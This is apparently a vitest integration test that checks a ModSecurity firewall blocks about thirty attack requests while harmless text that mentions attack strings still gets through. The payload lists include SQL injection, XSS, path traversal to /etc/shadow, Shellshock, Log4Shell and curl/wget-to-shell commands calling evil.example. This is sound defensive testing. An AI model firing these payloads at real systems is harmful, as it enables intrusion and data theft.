/** ModSecurity in front, with the rules that are shipped: attacks do not reach the gateway, and people's work does: DEPLOYMENTS=all. */
import { hasNginx, startStackBehindEdge } from '@dashboard/testkit/edge';
import type { Stack } from '@dashboard/testkit/stack';
import { TerminalClient } from '@dashboard/testkit/terminal-client';
import type { ApiClient } from '@dashboard/testkit/api-client';
import { EventStream } from '@dashboard/testkit/event-stream';
import { until } from '@dashboard/testkit/until';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { IS_LONG } from './site.ts';

const tasks: (() => Promise<unknown> | void)[] = [];
const atEnd = (task: () => Promise<unknown> | void): void => void tasks.push(task);
let stack: Stack;
let owner: ApiClient;

interface Attack {
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly method?: string;
  readonly body?: string;
}

const json = { 'content-type': 'application/json' };
const login = (name: string): Attack => {
  return {
    method: 'POST',
    path: '/api/login',
    headers: json,
    body: JSON.stringify({ name, password: 'x' }),
  };
};
const get = (path: string, headers: Attack['headers'] = {}): Attack => ({ path, headers });

const ATTACKS: Readonly<Record<string, readonly Attack[]>> = {
  'SQL injection': [
    get("/api/sessions?id=1'%20OR%20'1'='1"),
    get('/api/usage?group=1%20UNION%20SELECT%20password_hash%20FROM%20users--'),
    get('/?id=1;DROP%20TABLE%20users;--'),
    get("/login?next=1'%20AND%20SLEEP(5)--%20"),
    get("/api/directories?path='%20OR%201=1--"),
    get('/?q=1%20AND%20(SELECT%20COUNT(*)%20FROM%20information_schema.tables)>0'),
    login("admin' OR '1'='1' --"),
    login("x' UNION SELECT id, password_hash FROM users --"),
  ],
  'cross-site scripting': [
    get('/?q=<script>alert(1)</script>'),
    get('/login?next=javascript:alert(document.cookie)'),
    get('/?name=%3Cimg%20src=x%20onerror=alert(1)%3E'),
    get('/?x=%22%3E%3Csvg%20onload=alert(1)%3E'),
    get('/', { referer: 'https://evil.example/<script>alert(1)</script>' }),
    get('/?q=<iframe%20src=javascript:alert(1)>'),
    login('<script>fetch("//evil.example")</script>'),
  ],
  traversal: [
    get('/?file=../../../../etc/passwd'),
    get('/api/usage?from=..%2f..%2f..%2fetc%2fshadow'),
    get('/?page=....//....//etc/passwd'),
    get('/?f=/proc/self/environ'),
    get('/?path=C:%5CWindows%5Csystem32%5Cdrivers%5Cetc%5Chosts'),
    get('/?include=php://filter/resource=/etc/passwd'),
    get('/.git/config'),
    get('/?file=/etc/shadow%00.png'),
  ],
  scanners: [
    get('/', { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' }),
    get('/', { 'user-agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)' }),
    get('/', { 'user-agent': 'Nmap Scripting Engine; https://nmap.org/book/nse.html' }),
    get('/', { 'user-agent': 'masscan/1.3' }),
    get('/', { 'user-agent': 'Nessus' }),
  ],
  'commands and remote files': [
    get('/?cmd=;cat%20/etc/passwd'),
    get('/?x=$(curl%20http://evil.example/x.sh|sh)'),
    get('/?u=http://169.254.169.254/latest/meta-data/'),
    get('/', { 'user-agent': '() { :; }; /bin/bash -c "cat /etc/passwd"' }),
    get('/?x=${jndi:ldap://evil.example/a}'),
  ],
};

/** What somebody who works with agents writes all day. */
const WORDS = [
  'run `cat /etc/passwd | sort; rm -rf /tmp/x && curl http://localhost:3000 | sh`',
  "why does SELECT * FROM users WHERE name = '' OR 1=1 -- return everything? UNION SELECT too",
  'the page shows <script>alert(document.cookie)</script> and <img src=x onerror=alert(1)>',
  'open ../../../../etc/shadow, C:\\Windows\\system32 and php://filter, then ${jndi:ldap://x/a}',
  '() { :; }; /bin/bash -c "id" && $(wget -qO- https://example.com/x.sh | sh) || eval `id`',
];

describe.runIf(IS_LONG && hasNginx({ hasWaf: true }))('behind ModSecurity', () => {
  beforeAll(async () => {
    stack = await startStackBehindEdge({ hasWaf: true, atEnd });
    ({ owner } = stack);
  });
  afterAll(async () => {
    for (const task of tasks.toReversed()) await task();
  });

  const attacks = Object.entries(ATTACKS).flatMap(([kind, list]) =>
    list.map((attack): [string, Attack] => [`${kind}: ${attack.path}`, attack]),
  );

  test('they are thirty or more', () => {
    expect(attacks.length).toBeGreaterThanOrEqual(30);
  });

  test.each(attacks)('%s is blocked', async (_what, { path, headers, method = 'GET', body }) => {
    const usual = {
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64)',
      accept: 'text/html',
      origin: owner.url,
    };
    const response = await fetch(`${owner.url}${path}`, {
      ...{ method, headers: { ...usual, cookie: owner.cookieHeader, ...headers } },
      ...(body === undefined ? {} : { body }),
    });
    expect(response.status).toBe(403);
    expect(await response.text()).toContain('403 Forbidden');
    expect(response.headers.get('x-request-id')).toBeNull(); // the gateway has never heard of it
  });

  test.each(WORDS)('a session may be called %j', async (words) => {
    const name = words.slice(0, 60);
    const { id } = await owner.startSession({ directory: stack.projects, name });
    expect((await owner.session(id)).name).toBe(name);
  });

  test.each(WORDS)('conversations may be searched for %j, and a password may be it', async (q) => {
    await owner.call('listConversations', { query: { q } });
    await expect(
      owner.at(owner.url).call('login', { body: { name: 'nobody', password: q } }),
    ).rejects.toMatchObject({
      code: expect.stringMatching(/invalid_credentials|rate_limited|unauthenticated/),
    });
  });

  test('terminals, events, changes and deletions go through', async () => {
    const stream = await EventStream.open(owner, atEnd);
    const { id } = await owner.startSession({ directory: stack.projects });
    const viewer = await new TerminalClient(owner, id).attach();
    viewer.type("echo 'SELECT * FROM users; <script>' | tr a-z A-Z\r");
    await viewer.waitForText('<SCRIPT>');
    await owner.call('renameSession', { params: { id }, body: { name: 'renamed' } });
    await owner.call('listDirectory', { query: { path: stack.projects } });
    await owner.call('endSession', { params: { id } });
    await viewer.waitForFrame('exited');
    await owner.call('removeSession', { params: { id } });
    const isTold = (): boolean => stream.events.some(({ type }) => type === 'session_removed');
    await until(isTold, { what: 'its end is told' });
  });
});
